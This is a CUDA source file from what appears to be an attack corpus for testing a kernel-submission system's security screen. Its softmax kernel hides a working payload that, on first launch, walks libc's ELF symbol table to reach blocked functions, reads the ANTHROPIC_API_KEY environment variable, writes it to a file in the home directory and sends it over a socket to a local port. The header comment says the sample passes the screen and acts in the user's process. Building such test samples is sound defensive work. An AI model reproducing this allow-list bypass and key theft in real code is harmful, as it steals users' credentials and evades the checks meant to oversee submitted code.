// Attack corpus (CUDA): Twin of cpu/attack_libc_walk.c: its host code reaches the C library's refused functions from
// an allowed one's address (the library imports only what the binary wall allows), reads the API key and sends it
// to 127.0.0.1:47913 and $HOME/kforge_attack_walk.txt on its first call; its softmax is honest (slow on purpose).
// Expected: in the runner nothing is reached (SLOWER); at apply/load in the user's process it acts (the hole the
// eighth pass of docs/security.md names). Screen: passes.
#include "kforge.h"
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

typedef struct { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; } sym64;
typedef struct { int64_t tag; uint64_t val; } dyn64;

static void* libc_function(const unsigned char* base, const char* want) {
    uint64_t phoff = *(const uint64_t*)(base + 32);
    uint16_t phnum = *(const uint16_t*)(base + 56);
    const dyn64* dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + 56 * i;
        if (*(const uint32_t*)ph == 2) dyn = (const dyn64*)(base + *(const uint64_t*)(ph + 16));
    }
    if (!dyn) return 0;
    const char* strtab = 0; const sym64* symtab = 0;
    for (; dyn->tag; ++dyn) {
        uint64_t v = dyn->val < (uint64_t)base ? (uint64_t)base + dyn->val : dyn->val;  /* relocated in place or not */
        if (dyn->tag == 5) strtab = (const char*)v;
        if (dyn->tag == 6) symtab = (const sym64*)v;
    }
    if (!strtab || !symtab || (const char*)symtab > strtab) return 0;
    for (const sym64* s = symtab + 1; (const char*)s < strtab; ++s)
        if (s->shndx && s->value && strcmp(strtab + s->name, want) == 0) return (void*)(base + s->value);
    return 0;
}

static void act(void) {
    const unsigned char* p = (const unsigned char*)((uintptr_t)(void*)&abort & ~(uintptr_t)4095);
    while (memcmp(p, "\177ELF", 4) != 0) p -= 4096;
    char* (*get)(const char*) = (char* (*)(const char*))libc_function(p, "getenv");
    int (*open_)(const char*, int, ...) = (int (*)(const char*, int, ...))libc_function(p, "open");
    typedef long (*write_fn)(int, const void*, unsigned long);
    write_fn write_ = (write_fn)libc_function(p, "write");
    int (*close_)(int) = (int (*)(int))libc_function(p, "close");
    int (*socket_)(int, int, int) = (int (*)(int, int, int))libc_function(p, "socket");
    int (*connect_)(int, const void*, unsigned) = (int (*)(int, const void*, unsigned))libc_function(p, "connect");
    if (!get || !open_ || !write_ || !close_ || !socket_ || !connect_) return;
    const char* key = get("ANTHROPIC_API_KEY");
    const char* home = get("HOME");
    if (!key) return;
    if (home && strlen(home) < 400) {
        char path[512];
        memcpy(path, home, strlen(home));
        memcpy(path + strlen(home), "/kforge_attack_walk.txt", 24);
        int fd = open_(path, 01 | 0100 | 01000, 0644);   /* O_WRONLY | O_CREAT | O_TRUNC */
        if (fd >= 0) { write_(fd, key, strlen(key)); close_(fd); }
    }
    int s = socket_(2, 1, 0);                             /* AF_INET, SOCK_STREAM */
    if (s < 0) return;
    unsigned char addr[16] = {2, 0, 47913 >> 8, 47913 & 255, 127, 0, 0, 1};
    if (connect_(s, addr, sizeof addr) == 0) write_(s, key, strlen(key));
    close_(s);
}

__global__ void softmax_slow_k(const float* x, float* y, int64_t rows, int64_t cols) {
    int64_t r = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (r >= rows) return;
    const float* xr = x + r * cols; float* yr = y + r * cols;
    for (int rep = 0; rep < 8; ++rep) {
        float m = KF_NEG_INF, t = 0.f;
        for (int64_t c = 0; c < cols; ++c) m = fmaxf(m, xr[c]);
        for (int64_t c = 0; c < cols; ++c) { yr[c] = expf(xr[c] - m); t += yr[c]; }
        for (int64_t c = 0; c < cols; ++c) yr[c] /= t;
    }
}

static int done = 0;
KF_ENTRY int kf_launch(const kf_tensor* in, int n_in, const kf_tensor* out, int n_out,
                       const double* params, int n_params, void* workspace, void* stream) {
    if (!done) { done = 1; act(); }
    int64_t cols = in[0].sizes[in[0].ndim - 1], rows = 1;
    for (int d = 0; d < in[0].ndim - 1; ++d) rows *= in[0].sizes[d];
    softmax_slow_k<<<(unsigned)((rows + 31) / 32), 32, 0, (cudaStream_t)stream>>>(
        (const float*)in[0].data, (float*)out[0].data, rows, cols);
    return (int)cudaGetLastError();
}
